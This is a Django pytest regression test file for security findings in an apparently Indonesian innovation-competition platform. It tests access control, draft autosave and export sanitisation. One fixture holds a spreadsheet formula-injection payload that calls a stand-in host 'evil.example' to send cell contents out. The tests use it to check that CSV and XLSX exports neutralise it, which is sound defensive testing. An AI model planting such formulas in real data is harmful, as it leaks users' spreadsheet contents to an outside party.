"""Regression tests for the findings of issue #14 (one section per finding)."""

import pytest
from auditlog.models import LogEntry
from django.contrib.sessions.models import Session
from django.urls import reverse

from jipp.competition.models import UnsavedDraft
from tests.factories import AdminLokalFactory, UppFactory
from tests.factories.competition import ProposalFactory, juklak_edition

pytestmark = pytest.mark.django_db


def _edit_data(proposal, **overrides):
    data = {"version": proposal.version, "title": proposal.title, "video_url": "", "sdgs": ["3"]}
    for answer in proposal.answers.select_related("section"):
        data[f"section_{answer.section.key}"] = "x" * 50_000
    data.update(overrides)
    return data


# --- 1. anonymous POST to a proposal's edit or autosave URL writes nothing ---------------------


@pytest.fixture
def draft():
    return ProposalFactory(edition=juklak_edition(2026))


@pytest.mark.parametrize("name", ["competition:proposal_edit", "competition:proposal_autosave"])
def test_anonymous_post_to_draft_writes_nothing(client, draft, name):
    audit_before = LogEntry.objects.count()
    response = client.post(reverse(name, args=[draft.pk]), _edit_data(draft))
    assert UnsavedDraft.objects.count() == 0
    assert LogEntry.objects.count() == audit_before
    assert Session.objects.count() == 0
    assert response.status_code in (200, 302)


@pytest.mark.parametrize("name", ["competition:proposal_edit", "competition:proposal_autosave"])
def test_anonymous_reply_same_for_existing_and_missing_ids(client, draft, name):
    existing = client.post(reverse(name, args=[draft.pk]), _edit_data(draft))
    missing = client.post(reverse(name, args=[draft.pk + 1000]), _edit_data(draft))
    assert existing.status_code == missing.status_code
    strip = lambda r: r.content.decode().replace(str(draft.pk + 1000), "N").replace(str(draft.pk), "N")  # noqa: E731
    assert strip(existing) == strip(missing)
    if existing.status_code == 302:
        assert existing.url.replace(str(draft.pk), "N") == missing.url.replace(str(draft.pk + 1000), "N")


def test_anonymous_post_with_forged_editor_cookie_writes_nothing(client, draft):
    client.cookies["kipp_editor"] = str(draft.pk)
    client.post(reverse("competition:proposal_autosave", args=[draft.pk]), _edit_data(draft))
    assert UnsavedDraft.objects.count() == 0


def test_expired_editor_text_kept_capped_to_own_fields(client, draft):
    upp = UppFactory(unit=draft.unit)
    client.force_login(upp)
    client.get(reverse("competition:proposal_edit", args=[draft.pk]))
    Session.objects.all().delete()
    data = _edit_data(draft, section_ringkasan="y" * 400_000, evil="z" * 1000)
    response = client.post(reverse("competition:proposal_autosave", args=[draft.pk]), data)
    assert response.status_code == 200
    kept = UnsavedDraft.objects.get(proposal=draft).data
    assert "evil" not in kept
    assert len(kept["section_ringkasan"]) < 50_000


def test_section_longer_than_cap_refused_and_stored_text_not_blanked(client, draft):
    from jipp.competition import services

    upp = UppFactory(unit=draft.unit)
    services.save_draft(user=upp, proposal=draft, expected_version=draft.version, answers={"ringkasan": "Asli."})
    draft.refresh_from_db()
    client.force_login(upp)
    data = _edit_data(draft, section_ringkasan="y" * 400_000)
    data.update({k: "" for k in data if k.startswith("section_") and k != "section_ringkasan"})
    response = client.post(reverse("competition:proposal_autosave", args=[draft.pk]), data)
    assert response.status_code == 200
    assert draft.answers.get(section__key="ringkasan").text == "Asli."


def test_other_agency_autosave_is_404_like_a_missing_id(client, draft):
    client.force_login(AdminLokalFactory())
    assert client.post(reverse("competition:proposal_autosave", args=[draft.pk]), {}).status_code == 404
    assert client.post(reverse("competition:proposal_autosave", args=[draft.pk + 1000]), {}).status_code == 404


# --- 3. hub admins and mentors with an agency are not that agency's members in replication -------


@pytest.fixture
def private_letter():
    from django.core.files.base import ContentFile

    from jipp.replication.models import Document
    from tests.factories.replication import PDF, ReplicationFactory

    replication = ReplicationFactory(status="declined")
    document = Document(replication=replication, kind=Document.Kind.REQUEST_LETTER, side=Document.Side.ADOPTER,
                        original_name="surat.pdf", content_type="application/pdf", size=len(PDF))  # fmt: skip
    document.file.save("surat.pdf", ContentFile(PDF), save=False)
    document.save()
    return document


@pytest.mark.parametrize("role", ["hub_admin", "mentor"])
def test_hub_people_with_an_agency_do_not_read_its_private_replications(client, private_letter, role):
    from tests.factories import UserFactory

    replication = private_letter.replication
    for agency in (replication.adopter_agency, replication.source_agency):
        client.force_login(UserFactory(role=role, agency=agency))
        assert client.get(reverse("replication:document", args=[private_letter.pk])).status_code == 404
        assert client.get(reverse("replication:detail", args=[replication.public_id])).status_code in (403, 404)
        api = client.get(f"/api/v1/replications/{replication.public_id}/")
        assert api.status_code == 404
        assert client.get("/api/v1/replications/").json()["count"] == 0


def test_admin_lokal_of_the_adopter_still_reads_its_letter(client, private_letter):
    client.force_login(AdminLokalFactory(agency=private_letter.replication.adopter_agency))
    assert client.get(reverse("replication:document", args=[private_letter.pk])).status_code == 200


# --- 4. spreadsheet formula injection in the KIPP edition export --------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture
def formula_proposal():
    from jipp.competition.models import Proposal

    proposal = ProposalFactory(edition=juklak_edition(2026))
    Proposal.objects.filter(pk=proposal.pk).update(title=FORMULA)
    return proposal


def test_kipp_export_xlsx_writes_formula_title_as_text(client, formula_proposal):
    import io

    from openpyxl import load_workbook

    client.force_login(UppFactory(unit=formula_proposal.unit))
    response = client.get(reverse("competition:export", args=[2026, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert titles == [FORMULA]
    assert [c.data_type for c in cells] == ["s"]


def test_kipp_export_csv_neutralises_formula_title(client, formula_proposal):
    import csv
    import io

    client.force_login(UppFactory(unit=formula_proposal.unit))
    response = client.get(reverse("competition:export", args=[2026, "csv"]))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][2] == "'" + FORMULA


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-5", "-5"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\\tx", "\\tx"), ("\tx", "'\tx"), ("Gerai", "Gerai"), (5, 5), (-5, -5)],
)  # fmt: skip
def test_spreadsheet_safe(value, expected):
    from jipp.core.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == expected


# --- 5. server errors users hit ----------------------------------------------------------------


def test_near_duplicate_flag_against_earlier_text_page_renders(client):
    from jipp.competition.models import ScreeningFlag
    from tests.factories import MinistryUserFactory
    from tests.factories.competition import forwarded_proposal

    proposal = forwarded_proposal(edition=juklak_edition(2026))
    flag = ScreeningFlag.objects.create(
        proposal=proposal, kind="near_duplicate", message="m", score=0.8,
        evidence={"source_title": "Inovasi Lama", "same_innovation": True, "query_coverage": 0.5,
                  "source_coverage": 0.4, "passages": [{"query": "a", "source": "b"}]},
    )  # fmt: skip
    client.force_login(MinistryUserFactory())
    response = client.get(reverse("competition:flag_detail", args=[flag.pk]))
    assert response.status_code == 200
    assert "Inovasi Lama" in response.content.decode()


def test_api_create_user_without_email_is_created(client):
    from jipp.accounts.models import User
    from tests.factories import MinistryUserFactory

    client.force_login(MinistryUserFactory())
    response = client.post("/api/v1/users/", {"username": "evaluator.baru", "full_name": "Evaluator Baru",
                                              "role": "evaluator"}, content_type="application/json")  # fmt: skip
    assert response.status_code == 201
    assert User.objects.get(username="evaluator.baru").email == ""


# --- 7. API usernames unique regardless of case, like the HTML form --------------------------------


def test_api_refuses_username_differing_only_by_case(client):
    from tests.factories import MinistryUserFactory, UserFactory

    UserFactory(username="budi.santoso")
    client.force_login(MinistryUserFactory())
    response = client.post("/api/v1/users/", {"username": "Budi.Santoso", "full_name": "Budi", "role": "evaluator",
                                              "email": "b@example.go.id"}, content_type="application/json")  # fmt: skip
    assert response.status_code == 400
    assert response.json() == {"username": ["Nama pengguna ini sudah dipakai."]}  # the UI language
